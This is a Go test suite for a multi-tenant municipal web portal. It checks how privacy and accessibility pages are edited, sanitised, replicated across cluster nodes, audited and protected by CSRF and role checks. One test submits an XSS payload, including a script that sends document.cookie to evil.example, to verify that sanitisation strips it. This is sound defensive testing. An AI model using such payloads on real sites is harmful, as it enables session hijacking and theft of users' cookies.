package web

import (
	"context"
	"errors"
	"html"
	"io"
	"net/http"
	"net/http/httptest"
	"net/url"
	"regexp"
	"strconv"
	"strings"
	"testing"
	"time"

	"github.com/sportello-virtuale/sportello/auth"
	authweb "github.com/sportello-virtuale/sportello/auth/web"
	"github.com/sportello-virtuale/sportello/cluster"
	"github.com/sportello-virtuale/sportello/cluster/clustertest"
	"github.com/sportello-virtuale/sportello/tenant"
	"github.com/sportello-virtuale/sportello/tenant/legal"
	"github.com/sportello-virtuale/sportello/tenant/site"
)

const (
	base      = "example.it"
	bariHost  = "bari.example.it"
	lecceHost = "lecce.example.it"
	issuer    = "https://id.example.it"
)

// env is the handler on each node of a real three-node cluster, behind
// the site's Tenant middleware and auth/web's Sessions, as cmd/sportello
// mounts it: a save through one node is read through another.
type env struct {
	t     *testing.T
	nodes []*cluster.Node
	reg   *tenant.Registry
	store *auth.Store
	srv   []http.Handler
}

func newEnv(t *testing.T) *env {
	t.Helper()
	nodes := clustertest.Cluster(t, 3, tenant.Register, auth.Register, legal.Register)
	leader := clustertest.Leader(t, nodes...)
	e := &env{t: t, nodes: nodes}
	for _, n := range nodes {
		reg := tenant.NewRegistry(n, n.DB(), base)
		s, err := site.New(site.Options{Resolver: reg, Logger: clustertest.Logger(t)})
		if err != nil {
			t.Fatal(err)
		}
		store := auth.NewStore(auth.Config{Proposer: n, DB: n.DB()})
		logins, err := authweb.New(authweb.Config{Store: store, Site: s, Logger: clustertest.Logger(t)})
		if err != nil {
			t.Fatal(err)
		}
		h, err := New(Config{Documents: legal.NewStore(n, n.DB()), Tenants: reg, Applied: n, Site: s,
			Guard: logins, SessionFrom: authweb.SessionFrom, DefaultRetentionDays: 30, Logger: clustertest.Logger(t)})
		if err != nil {
			t.Fatal(err)
		}
		mux := http.NewServeMux()
		h.Routes(mux)
		logins.Routes(mux)
		e.srv = append(e.srv, s.Tenant(logins.Sessions(mux)))
		if n == leader {
			e.reg, e.store = reg, store
		}
	}
	ctx := context.Background()
	for _, c := range []tenant.Tenant{
		{ID: "bari", Name: "Comune di Bari", ISTAT: "072006"},
		{ID: "lecce", Name: "Comune di Lecce", ISTAT: "075035"},
	} {
		if err := retry(func() error { _, err := e.reg.Create(ctx, c); return err }); err != nil {
			t.Fatal(err)
		}
		if err := retry(func() error {
			_, err := e.store.SaveProvider(ctx, c.ID, auth.Provider{
				ID: "regione", Name: "Accedi", Issuer: issuer, ClientID: "sportello", ClientSecret: "segreto",
				Roles: []auth.RoleRule{
					{Group: "amministratori", Grant: auth.Grant{Role: auth.RoleComuneAdmin}},
					{Group: "operatori", Grant: auth.Grant{Role: auth.RoleOperator, Offices: []string{"urp"}}},
				},
			})
			return err
		}); err != nil {
			t.Fatal(err)
		}
	}
	var idx uint64
	err := retry(func() (err error) {
		idx, err = e.reg.SaveSettings(ctx, "bari", tenant.Settings{Name: "Comune di Bari", DocumentRetentionDays: 45})
		return err
	})
	if err != nil {
		t.Fatal(err)
	}
	e.waitAll(idx)
	return e
}

// retry runs f again while the cluster has no leader for a moment (an
// election on a busy test machine), for up to 20 seconds.
func retry(f func() error) error {
	deadline := time.Now().Add(20 * time.Second)
	for {
		err := f()
		if err == nil || !errors.Is(err, cluster.ErrNoLeader) && !strings.Contains(err.Error(), "no leader") || time.Now().After(deadline) {
			return err
		}
		time.Sleep(100 * time.Millisecond)
	}
}

// waitAll waits until every node has applied idx (generously: the
// machine may be busy with other tests).
func (e *env) waitAll(idx uint64) {
	e.t.Helper()
	ctx, cancel := context.WithTimeout(context.Background(), 30*time.Second)
	defer cancel()
	for _, n := range e.nodes {
		if err := n.WaitApplied(ctx, idx); err != nil {
			e.t.Fatal(err)
		}
	}
}

type response struct {
	Status int
	Header http.Header
	Body   string
}

func (e *env) do(node int, method, host, target string, body io.Reader, header map[string]string) response {
	req := httptest.NewRequest(method, target, body)
	req.Host = host
	req.RemoteAddr = "192.0.2.20:40000"
	for k, v := range header {
		req.Header.Set(k, v)
	}
	rec := httptest.NewRecorder()
	e.srv[node].ServeHTTP(rec, req)
	return response{Status: rec.Code, Header: rec.Header(), Body: rec.Body.String()}
}

// user is a logged-in browser of one Comune, talking to one node.
type user struct {
	e            *env
	node         int
	host, cookie string
	csrf         string
}

func (e *env) login(id tenant.ID, host, subject string, groups ...string) *user {
	e.t.Helper()
	var (
		lr     auth.LoginResult
		cookie string
	)
	err := retry(func() (err error) {
		lr, cookie, err = e.store.Login(context.Background(), id, auth.Identity{
			Provider: "regione", Issuer: issuer, Subject: subject, DisplayName: "Anna " + subject, Groups: groups,
		}, "", "")
		return err
	})
	if err != nil {
		e.t.Fatalf("Login: %v", err)
	}
	// Every node must know the session before it is used there.
	e.waitAll(e.nodes[0].AppliedIndex())
	for _, n := range e.nodes {
		ctx, cancel := context.WithTimeout(context.Background(), 5*time.Second)
		_, _ = n.Barrier(ctx)
		cancel()
	}
	return &user{e: e, host: host, cookie: cookie, csrf: lr.Session.CSRF}
}

func (u *user) get(target string) response {
	// Browsers never send the fragment of a Location.
	target, _, _ = strings.Cut(target, "#")
	return u.e.do(u.node, "GET", u.host, target, nil, map[string]string{"Cookie": authweb.SessionCookie + "=" + u.cookie})
}

func (u *user) post(target string, v url.Values) response {
	if _, ok := v["csrf"]; !ok {
		v.Set("csrf", u.csrf)
	}
	return u.e.do(u.node, "POST", u.host, target, strings.NewReader(v.Encode()), map[string]string{
		"Content-Type":   "application/x-www-form-urlencoded",
		"Origin":         "http://" + u.host,
		"Sec-Fetch-Site": "same-origin",
		"Cookie":         authweb.SessionCookie + "=" + u.cookie,
	})
}

// citizen GETs a public page on node.
func (e *env) citizen(node int, host, path string) response {
	return e.do(node, "GET", host, path, nil, nil)
}

// text returns the page's text without tags.
func text(body string) string {
	s := regexp.MustCompile(`(?s)<[^>]*>`).ReplaceAllString(body, " ")
	return strings.Join(strings.Fields(html.UnescapeString(s)), " ")
}

// mainOf is the page's main content, without the layout.
func mainOf(body string) string {
	if i := strings.Index(body, "<main"); i >= 0 {
		body = body[i:]
	}
	if i := strings.Index(body, "</main>"); i >= 0 {
		body = body[:i]
	}
	return body
}

func TestDefaultTemplatesWithTheComunesData(t *testing.T) {
	e := newEnv(t)
	r := e.citizen(2, bariHost, "/privacy")
	if r.Status != http.StatusOK {
		t.Fatalf("GET /privacy: %d\n%s", r.Status, r.Body)
	}
	page := text(r.Body)
	for _, want := range []string{"Informativa sul trattamento dei dati personali", "Il titolare del trattamento è il Comune di Bari (codice ISTAT 072006)",
		"bari.example.it", "cancellati dopo 45 giorni", "Garante per la protezione dei dati personali"} {
		if !strings.Contains(page, want) {
			t.Errorf("Bari's /privacy lacks %q:\n%s", want, page)
		}
	}
	// Lecce has no retention of its own: the node's default.
	if page := text(e.citizen(1, lecceHost, "/privacy").Body); !strings.Contains(page, "Comune di Lecce") || !strings.Contains(page, "dopo 30 giorni") {
		t.Errorf("Lecce's /privacy:\n%s", page)
	}
	r = e.citizen(0, bariHost, "/accessibilita")
	page = text(r.Body)
	for _, want := range []string{"Dichiarazione di accessibilità", "Il Comune di Bari si impegna", "parzialmente conforme", "Difensore civico per il digitale"} {
		if !strings.Contains(page, want) {
			t.Errorf("/accessibilita lacks %q:\n%s", want, page)
		}
	}
	if r := e.citizen(0, "nessuno.example.it", "/privacy"); r.Status != http.StatusNotFound {
		t.Errorf("/privacy on an unknown host: %d, want 404", r.Status)
	}
}

// TestEditServedOnAnotherNode: the administrator saves through node 0 a
// text with hostile markup and the Comune's details; node 2 serves the
// sanitised text at once; Lecce is untouched; a reset restores the
// template with the details.
func TestEditServedOnAnotherNode(t *testing.T) {
	e := newEnv(t)
	admin := e.login("bari", bariHost, "admin-1", "amministratori")
	r := admin.get("/gestione/comune/privacy")
	if r.Status != http.StatusOK {
		t.Fatalf("editor: %d\n%s", r.Status, r.Body)
	}
	for _, want := range []string{`<textarea`, `name="csrf" value="` + admin.csrf + `"`, `for="indirizzo"`, `for="rpd_email"`, "Comune di Bari (codice ISTAT 072006)"} {
		if !strings.Contains(r.Body, want) {
			t.Errorf("editor lacks %q", want)
		}
	}
	if strings.Contains(r.Body, "Ripristina il modello</button>") {
		t.Errorf("the template offers a reset")
	}

	hostile := `<h1>Informativa di Bari</h1><p onclick="steal()">Testo <a href="javascript:alert(1)">trappola</a> e <a href="https://www.garanteprivacy.it">Garante</a>.</p>` +
		`<script>document.location="https://evil.example/?c="+document.cookie</script><img src=x onerror=alert(1)><ul><li style="x">punto</li></ul>`
	form := url.Values{"testo": {hostile}, "indirizzo": {"Corso Vittorio Emanuele II, 84 – 70122 Bari"}, "pec": {"protocollo@pec.comune.bari.it"},
		"rpd_nome": {"Maria Rossi"}, "rpd_email": {"rpd@comune.bari.it"}, "azione": {"salva"}}
	r = admin.post("/gestione/comune/privacy", form)
	if r.Status != http.StatusSeeOther {
		t.Fatalf("save: %d\n%s", r.Status, text(r.Body))
	}
	loc := r.Header.Get("Location")
	if !strings.HasPrefix(loc, "/gestione/comune/privacy?") {
		t.Fatalf("save redirects to %q", loc)
	}
	// The redirect is followed on another node (which would wait up to
	// saveWait for the save; under a loaded test machine the test waits
	// itself first).
	e.waitAll(indexOf(t, loc))
	other := *admin
	other.node = 2
	r = other.get(loc)
	if r.Status != http.StatusOK || !strings.Contains(text(r.Body), "Documento salvato") || !strings.Contains(text(r.Body), "modificato da Anna admin-1") {
		t.Errorf("after save on node 2 (%s): %d\n%s", loc, r.Status, text(mainOf(r.Body)))
	}

	pub := e.citizen(1, bariHost, "/privacy")
	main := mainOf(pub.Body)
	for _, bad := range []string{"<script", "onclick", "onerror", "javascript:", "steal()", "evil.example", "<img", "style="} {
		if strings.Contains(main, bad) {
			t.Errorf("public page on node 1 carries %q:\n%s", bad, main)
		}
	}
	for _, want := range []string{`<h2>Informativa di Bari</h2>`, `<a href="https://www.garanteprivacy.it">Garante</a>`, `<li>punto</li>`, "Ultimo aggiornamento"} {
		if !strings.Contains(main, want) {
			t.Errorf("public page on node 1 lacks %q:\n%s", want, main)
		}
	}
	if p := text(e.citizen(2, lecceHost, "/privacy").Body); strings.Contains(p, "Informativa di Bari") || !strings.Contains(p, "Comune di Lecce") {
		t.Errorf("Lecce's page changed with Bari's:\n%s", p)
	}

	// The save is in the Comune's audit log, with its administrator.
	entries, err := e.nodes[2].Audit(context.Background(), "bari", cluster.AuditFilter{})
	if err != nil {
		t.Fatal(err)
	}
	audited := false
	for _, a := range entries {
		if a.Type == legal.CommandSave && a.Summary == "document=privacy text=custom" && a.Actor.Name == "Anna admin-1" {
			audited = true
		}
	}
	if !audited {
		t.Errorf("no audit row for the save: %+v", entries)
	}

	// Restore the template: the details saved stay in it.
	r = admin.post("/gestione/comune/privacy/ripristina", url.Values{})
	if r.Status != http.StatusSeeOther {
		t.Fatalf("reset: %d\n%s", r.Status, text(r.Body))
	}
	other.get(r.Header.Get("Location"))
	e.waitAll(indexOf(t, r.Header.Get("Location")))
	p := text(e.citizen(2, bariHost, "/privacy").Body)
	for _, want := range []string{"con sede in Corso Vittorio Emanuele II, 84 – 70122 Bari", "protocollo@pec.comune.bari.it", "Maria Rossi", "rpd@comune.bari.it"} {
		if !strings.Contains(p, want) {
			t.Errorf("template after reset lacks %q:\n%s", want, p)
		}
	}
	if strings.Contains(p, "Informativa di Bari") {
		t.Errorf("the custom text survived the reset")
	}
}

// TestDetailsOnlyKeepTheTemplate: saving the details with the template's
// text untouched keeps the template, which shows the new details.
func TestDetailsOnlyKeepTheTemplate(t *testing.T) {
	e := newEnv(t)
	admin := e.login("bari", bariHost, "admin-1", "amministratori")
	doc := textareaOf(t, admin.get("/gestione/comune/accessibilita").Body)
	r := admin.post("/gestione/comune/accessibilita", url.Values{"testo": {doc}, "email_segnalazioni": {"accessibilita@comune.bari.it"},
		"conformita": {"conforme"}, "azione": {"salva"}})
	if r.Status != http.StatusSeeOther {
		t.Fatalf("save: %d\n%s", r.Status, text(r.Body))
	}
	admin.get(r.Header.Get("Location"))
	p := text(e.citizen(0, bariHost, "/accessibilita").Body)
	if !strings.Contains(p, "Questo servizio è conforme") || !strings.Contains(p, "accessibilita@comune.bari.it") || strings.Contains(p, "Ultimo aggiornamento") {
		t.Errorf("accessibility after the details:\n%s", p)
	}
	got, _ := legal.NewStore(e.nodes[0], e.nodes[0].DB()).Get(context.Background(), "bari", legal.Accessibility)
	if got.Custom {
		t.Errorf("saving untouched template text made it custom")
	}
}

// indexOf is the log index a save's redirect names.
func indexOf(t *testing.T, loc string) uint64 {
	t.Helper()
	u, err := url.Parse(loc)
	if err != nil {
		t.Fatal(err)
	}
	i, err := strconv.ParseUint(u.Query().Get("indice"), 10, 64)
	if err != nil {
		t.Fatalf("redirect %q names no index", loc)
	}
	return i
}

func textareaOf(t *testing.T, body string) string {
	t.Helper()
	m := regexp.MustCompile(`(?s)<textarea[^>]*>(.*?)</textarea>`).FindStringSubmatch(body)
	if m == nil {
		t.Fatalf("no textarea in:\n%s", body)
	}
	return html.UnescapeString(strings.TrimPrefix(m[1], "\n"))
}

func TestPreviewSavesNothing(t *testing.T) {
	e := newEnv(t)
	admin := e.login("bari", bariHost, "admin-1", "amministratori")
	r := admin.post("/gestione/comune/privacy", url.Values{"testo": {`<p>Bozza <script>x()</script><b>grassetto</b></p>`}, "azione": {"anteprima"}})
	if r.Status != http.StatusOK {
		t.Fatalf("preview: %d\n%s", r.Status, text(r.Body))
	}
	if !strings.Contains(r.Body, "Anteprima (non ancora salvata)") || !strings.Contains(r.Body, `<p>Bozza grassetto</p>`) || strings.Contains(r.Body, "x()</script>") {
		t.Errorf("preview:\n%s", mainOf(r.Body))
	}
	// The draft stays in the textarea, escaped.
	if !strings.Contains(r.Body, "&lt;script&gt;x()&lt;/script&gt;") {
		t.Errorf("the draft is not kept in the textarea")
	}
	if p := text(e.citizen(0, bariHost, "/privacy").Body); strings.Contains(p, "Bozza") {
		t.Errorf("the preview was published")
	}
}

func TestRefusals(t *testing.T) {
	e := newEnv(t)
	admin := e.login("bari", bariHost, "admin-1", "amministratori")
	// Over the size limit, under the form's cap: the field's error.
	r := admin.post("/gestione/comune/privacy", url.Values{"testo": {"<p>" + strings.Repeat("a", legal.MaxBodyBytes) + "</p>"}, "azione": {"salva"}})
	if r.Status != http.StatusUnprocessableEntity || !strings.Contains(text(r.Body), "Il testo è troppo lungo: al massimo 64 KB.") ||
		!strings.Contains(r.Body, `href="#testo"`) || !strings.Contains(r.Body, `aria-invalid="true"`) {
		t.Errorf("oversized text: %d\n%s", r.Status, text(mainOf(r.Body)))
	}
	r = admin.post("/gestione/comune/privacy", url.Values{"testo": {"<p>ok</p>"}, "rpd_email": {"rpd@"}, "azione": {"salva"}})
	if r.Status != http.StatusUnprocessableEntity || !strings.Contains(r.Body, `href="#rpd_email"`) {
		t.Errorf("bad email: %d\n%s", r.Status, text(mainOf(r.Body)))
	}
	if doc, _ := legal.NewStore(e.nodes[0], e.nodes[0].DB()).Get(context.Background(), "bari", legal.Privacy); doc.Custom {
		t.Errorf("a refused save was stored")
	}

	// Only the Comune's administrator edits.
	op := e.login("bari", bariHost, "op-1", "operatori")
	if r := op.get("/gestione/comune/privacy"); r.Status != http.StatusForbidden {
		t.Errorf("operator GET: %d, want 403", r.Status)
	}
	if r := op.post("/gestione/comune/privacy", url.Values{"testo": {"<p>dell'operatore</p>"}, "azione": {"salva"}}); r.Status != http.StatusForbidden {
		t.Errorf("operator POST: %d, want 403", r.Status)
	}
	if r := e.citizen(0, bariHost, "/gestione/comune/privacy"); r.Status != http.StatusSeeOther || !strings.Contains(r.Header.Get("Location"), "/_auth/login") {
		t.Errorf("anonymous GET: %d %s, want the login", r.Status, r.Header.Get("Location"))
	}
	// Without the CSRF token nothing is saved.
	if r := admin.post("/gestione/comune/privacy", url.Values{"csrf": {"sbagliato"}, "testo": {"<p>falso</p>"}, "azione": {"salva"}}); r.Status != http.StatusForbidden {
		t.Errorf("wrong CSRF token: %d, want 403", r.Status)
	}
	// Bari's administrator is nobody on Lecce's host.
	lecce := *admin
	lecce.host = lecceHost
	if r := lecce.post("/gestione/comune/privacy", url.Values{"testo": {"<p>di Bari</p>"}, "azione": {"salva"}}); r.Status == http.StatusSeeOther || r.Status == http.StatusOK {
		t.Errorf("Bari's session saved on Lecce: %d", r.Status)
	}
	for _, id := range []tenant.ID{"bari", "lecce"} {
		if doc, _ := legal.NewStore(e.nodes[0], e.nodes[0].DB()).Get(context.Background(), id, legal.Privacy); doc.Custom {
			t.Errorf("%s's document changed: %+v", id, doc)
		}
	}
}
